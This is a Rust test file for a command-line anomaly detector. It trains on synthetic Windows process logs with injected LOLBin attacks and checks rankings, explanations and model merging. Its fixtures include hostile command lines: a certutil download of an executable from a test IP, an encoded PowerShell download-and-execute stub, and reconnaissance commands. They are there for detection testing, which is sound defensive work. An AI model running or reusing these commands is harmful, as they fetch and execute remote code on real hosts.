//! The cmdline detector: injected LOLBins rank first on generated logs; the seed model keeps the
//! notebook's input, length rule, scaler and threshold (with its bugs fixed); merges, model files
//! and explanations.

use oddhunt_core::modelfile::ModelFile;
use oddhunt_core::{Event, EventBuilder, EventKind, Field, Provenance, Rule, Scored, Timestamp};
use oddhunt_detect::cmdline::seed::MAX_TEXT_BYTES;
use oddhunt_detect::cmdline::text::{max_length_rule, seed_text};
use oddhunt_detect::cmdline::{subject, Cmdline, CmdlineModelKind, CmdlineSettings};
use oddhunt_detect::{Detector, Fitted, Model, NoProgress, Trainer};
use oddhunt_synth::process_attacks::lolbin_injection;
use oddhunt_synth::windows::{day_records, ProcessOptions, ProcessRecord};
use oddhunt_synth::{Environment, Label};
use proptest::prelude::*;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;
use std::sync::Arc;

fn events_of(env: &Environment, records: &[ProcessRecord], first_line: u64) -> Vec<Event> {
    records
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let mut b = EventBuilder::new(
                EventKind::ProcessStart,
                Provenance::line(Arc::from("synth.jsonl"), first_line + i as u64),
            );
            // As the 4688 rows are written: millisecond times, the FQDN as Computer.
            let ms = r.time_ns - r.time_ns.rem_euclid(1_000_000);
            b.time(Some(Timestamp::from_unix_nanos(ms)))
                .field(Field::Host, &env.hosts[r.host].fqdn)
                .field(Field::User, &r.user)
                .field(Field::Domain, &r.domain)
                .field(Field::ProcessPath, &r.path)
                .field(Field::CommandLine, &r.command_line)
                .field(Field::ParentPath, &r.parent);
            b.build()
        })
        .collect()
}

/// Seven baseline days and a scored eighth day with the LOLBins injected.
fn generated() -> (Vec<Event>, Vec<Event>, Vec<Label>) {
    let mut rng = ChaCha8Rng::seed_from_u64(21);
    let start = Timestamp::parse("2024-03-04T00:00:00Z").unwrap();
    let env = Environment::new(&mut rng, 12, 20, 8, start);
    let options = ProcessOptions::default();
    let mut train = Vec::new();
    for day in 0..7 {
        let records = day_records(&env, &mut rng, day, &options);
        train.extend(events_of(&env, &records, train.len() as u64 + 1));
    }
    let mut labels = Vec::new();
    let mut today = day_records(&env, &mut rng, 7, &options);
    today.extend(lolbin_injection(&env, &mut rng, 7, &mut labels));
    (train, events_of(&env, &today, 1_000_000), labels)
}

fn fit(settings: CmdlineSettings, train: &[Event]) -> Fitted {
    let detector = Cmdline::new(settings).unwrap();
    let mut trainer = detector.trainer();
    train.iter().for_each(|e| trainer.observe(e));
    trainer.fit(&NoProgress).unwrap()
}

fn score(model: &dyn Model, events: &[Event]) -> Vec<Scored> {
    let mut scorer = model.scorer();
    events.iter().for_each(|e| scorer.observe(e));
    scorer.finish(&NoProgress).unwrap()
}

/// Ranks (from 1) of the labelled subjects among the scored ones, best first.
fn ranks(scored: &[Scored], labels: &[Label]) -> Vec<usize> {
    let mut order: Vec<&Scored> = scored.iter().collect();
    order.sort_by(|a, b| b.score.total_cmp(&a.score));
    let mut r: Vec<usize> = labels
        .iter()
        .map(|l| {
            order
                .iter()
                .position(|s| s.subject == l.subject)
                .map_or(usize::MAX, |p| p + 1)
        })
        .collect();
    r.sort_unstable();
    r
}

fn small_seed() -> CmdlineSettings {
    CmdlineSettings {
        model: CmdlineModelKind::Seed,
        epochs: 4,
        max_length: Some(96),
        sample: 4_000,
        ..CmdlineSettings::default()
    }
}

#[test]
fn injected_lolbins_rank_at_the_top_of_generated_logs() {
    let (train, today, labels) = generated();
    assert_eq!(labels.len(), 12);
    let mut found = Vec::new();
    let mut worst = Vec::new();
    for (name, settings) in [
        ("default", CmdlineSettings::default()),
        (
            "ngram",
            CmdlineSettings {
                model: CmdlineModelKind::Ngram,
                ..CmdlineSettings::default()
            },
        ),
        ("seed", small_seed()),
    ] {
        let fitted = fit(settings, &train);
        let scored = score(fitted.model.as_ref(), &today);
        let r = ranks(&scored, &labels);
        let in_top = r.iter().filter(|&&x| x <= labels.len()).count();
        eprintln!(
            "{name}: injected LOLBins rank {r:?} of {} process starts; {in_top} of {} in the top {}",
            scored.len(),
            labels.len(),
            labels.len()
        );
        found.push(in_top);
        worst.push(r.last().copied().unwrap_or(usize::MAX));
    }
    // The default model puts most injected lines into the top 12 of ~1,600 process starts and
    // every one into the top 50 (measured: 9 in the top 12, all by rank 38; the n-gram baseline
    // 6 and rank 172, the seed with this test's small network none and rank 427).
    assert!(found[0] >= 9, "{found:?}");
    assert!(worst[0] <= 50, "{worst:?}");
    assert!(found[0] > found[1] && found[0] > found[2]);
    assert!(worst[0] < worst[1] && worst[0] < worst[2]);
}

#[test]
fn subjects_match_the_synthetic_labels() {
    let (_, today, labels) = generated();
    let subjects: std::collections::HashSet<String> = today
        .iter()
        .map(|e| {
            subject(
                e.get(Field::Host),
                e.time(),
                e.get(Field::CommandLine).unwrap_or(""),
            )
        })
        .collect();
    for l in &labels {
        assert!(subjects.contains(&l.subject), "{}", l.subject);
    }
}

fn process(line: u64, domain: &str, user: &str, command_line: &str, parent: &str) -> Event {
    let mut b = EventBuilder::new(
        EventKind::ProcessStart,
        Provenance::line(Arc::from("p.jsonl"), line),
    );
    b.field(Field::Domain, domain)
        .field(Field::User, user)
        .field(Field::CommandLine, command_line)
        .field(Field::ParentPath, parent)
        .field(Field::Host, "wks-1");
    b.build()
}

fn little_log() -> Vec<Event> {
    let mut v = Vec::new();
    for i in 0..300u64 {
        let (cmd, parent) = match i % 3 {
            0 => (
                r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                r"C:\Windows\System32\services.exe",
            ),
            1 => (
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                r"C:\Windows\System32\cmd.exe",
            ),
            _ => ("cmd.exe /c dir", r"C:\Windows\explorer.exe"),
        };
        v.push(process(i + 1, "CORP", "alice", cmd, parent));
    }
    v
}

/// The same log read from another folder trains the same seed network: the training sample
/// (and so the order the network sees the lines in and its validation split) is keyed on what
/// the events say and their line numbers, not on the file's path.
#[test]
fn seed_model_does_not_depend_on_where_the_log_lies() {
    let moved = |events: &[Event], path: &str| -> Vec<Event> {
        events
            .iter()
            .map(|e| {
                let line = match e.provenance().locator {
                    oddhunt_core::Locator::Line(n) => n,
                    oddhunt_core::Locator::Record(n) => n,
                };
                let mut b = EventBuilder::new(
                    EventKind::ProcessStart,
                    Provenance::line(Arc::from(path), line),
                );
                for f in [
                    Field::Domain,
                    Field::User,
                    Field::CommandLine,
                    Field::ParentPath,
                    Field::Host,
                ] {
                    if let Some(v) = e.get(f) {
                        b.field(f, v);
                    }
                }
                b.build()
            })
            .collect()
    };
    let events = little_log();
    let settings = CmdlineSettings {
        model: CmdlineModelKind::Seed,
        epochs: 2,
        sample: 100,
        ..CmdlineSettings::default()
    };
    let here = fit(settings.clone(), &moved(&events, "/srv/a/logs.jsonl"));
    let there = fit(settings, &moved(&events, "/home/b/copy/logs.jsonl"));
    let probe = &events[..12];
    let a: Vec<f64> = score(here.model.as_ref(), probe)
        .iter()
        .map(|s| s.score)
        .collect();
    let b: Vec<f64> = score(there.model.as_ref(), probe)
        .iter()
        .map(|s| s.score)
        .collect();
    assert_eq!(a, b);
}

/// The seed's input text, length rule, scaler and threshold; and the bugs it must not copy.
#[test]
fn seed_model_keeps_the_notebook_rules_with_its_bugs_fixed() {
    let events = little_log();
    // Input text: domain user command_line parent.
    assert_eq!(
        seed_text(&events[2]),
        r"CORP alice cmd.exe /c dir C:\Windows\explorer.exe"
    );
    let lengths: Vec<f64> = events.iter().map(|e| seed_text(e).len() as f64).collect();
    let mean = lengths.iter().sum::<f64>() / lengths.len() as f64;
    let std =
        (lengths.iter().map(|l| (l - mean).powi(2)).sum::<f64>() / lengths.len() as f64).sqrt();
    let settings = CmdlineSettings {
        model: CmdlineModelKind::Seed,
        epochs: 3,
        ..CmdlineSettings::default()
    };
    let detector = Cmdline::new(settings.clone()).unwrap();
    assert_eq!(detector.default_threshold(), Rule::MeanPlusSd(6.0));
    let fitted = fit(settings, &events);
    // The model file stores max_length = int(mean + std) and the training scaler.
    let mut file = ModelFile::new("cmdline", fitted.model.settings());
    fitted.model.save(&mut file).unwrap();
    let loaded = ModelFile::from_bytes(&file.to_bytes(), "mem").unwrap();
    let meta: serde_json::Value = loaded.get_json("seed").unwrap();
    let max_length = max_length_rule(mean, std);
    assert_eq!(meta["max_length"], max_length);
    assert_eq!(max_length, (mean + std) as usize);
    assert_eq!(
        meta["scaler"]["offset"].as_array().unwrap().len(),
        max_length
    );
    // The embedding reads byte values: its vocabulary is 256, not the scaled 0/1.
    let arch: serde_json::Value = loaded.get_json("architecture").unwrap();
    assert_eq!(arch["input"]["vocab"], 256);
    assert_eq!(arch["dense"].as_array().unwrap().len(), 8);
    // Scores do not depend on the batch (the notebook refitted the scaler on each batch): an
    // odd line scores the same alone and among usual ones, and above them.
    let model = detector.load(&loaded).unwrap();
    let odd = process(
        999,
        "CORP",
        "alice",
        "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        r"C:\Windows\System32\cmd.exe",
    );
    let alone = score(model.as_ref(), std::slice::from_ref(&odd));
    let mut batch = events[..30].to_vec();
    batch.push(odd.clone());
    let together = score(model.as_ref(), &batch);
    assert_eq!(alone[0].score, together[30].score);
    let usual_max = together[..30].iter().map(|s| s.score).fold(0.0, f64::max);
    assert!(together[30].score > usual_max);
    // Scaled values stay real numbers (the notebook cast them to uint8): scores vary smoothly.
    assert!(together
        .iter()
        .all(|s| s.score.is_finite() && s.score > 0.0));
    assert_eq!(together[30].measure.name, "reconstruction_error");
    // The explanation points at the command line, not the identity fields.
    let e = &together[30].explanation;
    assert_eq!(e["model"], "seed");
    assert_eq!(e["worst_window"]["part"], "process.command_line", "{e}");
    assert!(e["error_by_part"]["process.command_line"].as_f64().unwrap() > 0.0);
    assert!(e["normal_example"]["command_line"].is_string());
    // The notebook's own training (lr 1e-5, 20 epochs, no early stopping) is available.
    let nb = CmdlineSettings::notebook();
    assert_eq!(
        (nb.learning_rate, nb.epochs, nb.early_stopping),
        (1e-5, 20, false)
    );
    assert!(Cmdline::new(CmdlineSettings {
        max_length: Some(MAX_TEXT_BYTES + 1),
        ..CmdlineSettings::default()
    })
    .is_err());
}

#[test]
fn default_explanation_is_concrete() {
    let events = little_log();
    let fitted = fit(CmdlineSettings::default(), &events);
    let odd = process(
        999,
        "CORP",
        "alice",
        "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        r"C:\Windows\System32\cmd.exe",
    );
    let cousin = process(
        998,
        "CORP",
        "alice",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -Evil",
        r"C:\Windows\System32\cmd.exe",
    );
    let scored = score(fitted.model.as_ref(), &[odd, cousin, events[0].clone()]);
    let e = &scored[0].explanation;
    assert_eq!(e["executable"], "certutil");
    assert_eq!(e["parent"], "cmd.exe");
    let pair = &e["measures"][0];
    assert_eq!(pair["name"], "parent_child");
    assert_eq!(pair["seen"], 0);
    assert_eq!(pair["context_total"], 100);
    assert!(e["usual_children_of_parent"][0]["process"] == "conhost.exe");
    assert!(
        scored[0].summary.starts_with("cmd.exe → certutil: "),
        "{}",
        scored[0].summary
    );
    assert!(scored[0].summary.contains("never seen starting certutil"));
    // The new conhost line: "normal for conhost.exe looks like" the usual one.
    let c = &scored[1].explanation;
    assert_eq!(
        c["normal_for_executable"]["template"],
        r"\??\c:\windows\system<n>\conhost.exe <hex> -forcev<n>"
    );
    assert_eq!(c["normal_for_executable"]["count"], 100);
    assert_eq!(
        c["normal_for_executable"]["example"],
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"
    );
    assert!(c["words_new_for_executable"]
        .as_array()
        .unwrap()
        .iter()
        .any(|w| w == "-evil"));
    assert!(scored[0].score > scored[2].score && scored[1].score > scored[2].score);
    assert_eq!(
        scored[0].context["process.command_line"],
        "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"
    );
    assert_eq!(scored[0].provenance.len(), 1);
}

#[test]
fn ngram_explanation_names_the_rare_text() {
    let events = little_log();
    let settings = CmdlineSettings {
        model: CmdlineModelKind::Ngram,
        ..CmdlineSettings::default()
    };
    let fitted = fit(settings, &events);
    let odd = process(999, "CORP", "alice", "cmd.exe /c dir & whoami /priv", "x");
    let scored = score(fitted.model.as_ref(), &[odd, events[2].clone()]);
    assert!(scored[0].score > scored[1].score);
    let rare = scored[0].explanation["rare_text"].as_str().unwrap();
    assert!(rare.contains("who") || rare.contains("priv"), "{rare}");
}

/// Every variant's model file loads back and scores the same.
#[test]
fn model_files_round_trip() {
    let events = little_log();
    let probe = vec![
        events[0].clone(),
        process(
            7,
            "CORP",
            "bob",
            "whoami /all",
            r"C:\Windows\System32\cmd.exe",
        ),
    ];
    for settings in [
        CmdlineSettings::default(),
        CmdlineSettings {
            model: CmdlineModelKind::Ngram,
            ..CmdlineSettings::default()
        },
        CmdlineSettings {
            epochs: 2,
            ..small_seed()
        },
    ] {
        let detector = Cmdline::new(settings.clone()).unwrap();
        let fitted = fit(settings, &events);
        let before = score(fitted.model.as_ref(), &probe);
        let mut file = ModelFile::new("cmdline", fitted.model.settings());
        fitted.model.save(&mut file).unwrap();
        let loaded = ModelFile::from_bytes(&file.to_bytes(), "mem").unwrap();
        let model = oddhunt_detect::load_model(&loaded).unwrap().1;
        let after = score(model.as_ref(), &probe);
        let a: Vec<f64> = before.iter().map(|s| s.score).collect();
        let b: Vec<f64> = after.iter().map(|s| s.score).collect();
        assert_eq!(a, b, "{:?}", detector.settings.model);
        assert!(!fitted.training_scores.is_empty());
    }
}

#[test]
fn unusable_events_are_counted() {
    let detector = Cmdline::default();
    let mut trainer = detector.trainer();
    let mut b = EventBuilder::new(EventKind::DnsQuery, Provenance::line(Arc::from("x"), 1));
    b.field(Field::Query, "a.example.com");
    trainer.observe(&b.build());
    let mut b = EventBuilder::new(EventKind::ProcessStart, Provenance::line(Arc::from("x"), 2));
    b.field(Field::ProcessPath, r"C:\x.exe");
    trainer.observe(&b.build());
    assert_eq!(trainer.events_used(), 0);
    assert_eq!(
        trainer.events_ignored(),
        vec![
            ("not a process start".to_string(), 1),
            ("no command line".to_string(), 1)
        ]
    );
    assert!(trainer.fit(&NoProgress).is_err());
}

/// Scores of a probe set after training on `events` split in two and merged.
fn merged_scores(
    settings: &CmdlineSettings,
    events: &[Event],
    split: &[bool],
    probe: &[Event],
) -> (Vec<f64>, Vec<f64>) {
    let detector = Cmdline::new(settings.clone()).unwrap();
    let mut whole = detector.trainer();
    let mut a = detector.trainer();
    let mut b = detector.trainer();
    for (i, e) in events.iter().enumerate() {
        whole.observe(e);
        if split[i % split.len()] {
            a.observe(e)
        } else {
            b.observe(e)
        }
    }
    a.merge(b).unwrap();
    let s = |t: Box<dyn Trainer>| -> Vec<f64> {
        let fitted = t.fit(&NoProgress).unwrap();
        let mut v: Vec<f64> = score(fitted.model.as_ref(), probe)
            .iter()
            .map(|s| s.score)
            .collect();
        v.extend(fitted.training_scores);
        v
    };
    (s(whole), s(a))
}

const LINES: [&str; 8] = [
    "cmd.exe /c dir",
    "whoami /all",
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
    "net user /domain",
    "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "certutil -urlcache -f http://x/a a",
    r"\??\C:\Windows\system32\conhost.exe 0x4 -ForceV1",
];
const PARENTS: [&str; 3] = [
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\services.exe",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Training on two shards and merging gives the same model as training on everything: the
    /// same scores for new events and the same training score distribution (default and
    /// n-gram models; counts add, samples merge).
    #[test]
    fn merged_shards_equal_the_union(
        picks in prop::collection::vec((0usize..8, 0usize..3, 0u8..3), 1..120),
        split in prop::collection::vec(any::<bool>(), 1..16),
    ) {
        let events: Vec<Event> = picks
            .iter()
            .enumerate()
            .map(|(i, (l, p, u))| process(i as u64 + 1, "CORP", ["a", "b", "c"][*u as usize], LINES[*l], PARENTS[*p]))
            .collect();
        let probe: Vec<Event> = (0..8).map(|l| process(10_000 + l as u64, "CORP", "z", LINES[l], PARENTS[l % 3])).collect();
        for model in [CmdlineModelKind::Default, CmdlineModelKind::Ngram] {
            let settings = CmdlineSettings { model, ..CmdlineSettings::default() };
            let (whole, merged) = merged_scores(&settings, &events, &split, &probe);
            prop_assert_eq!(whole, merged);
        }
    }
}

/// The seed model's shards merge their samples and length moments: the merged state trains the
/// same network as the union.
#[test]
fn seed_states_merge_into_the_same_network() {
    let events = little_log();
    let probe: Vec<Event> = events[..5].to_vec();
    let settings = CmdlineSettings {
        epochs: 2,
        max_length: None,
        ..small_seed()
    };
    let split: Vec<bool> = (0..7).map(|i| i % 3 == 0).collect();
    let (whole, merged) = merged_scores(&settings, &events, &split, &probe);
    assert_eq!(whole, merged);
}
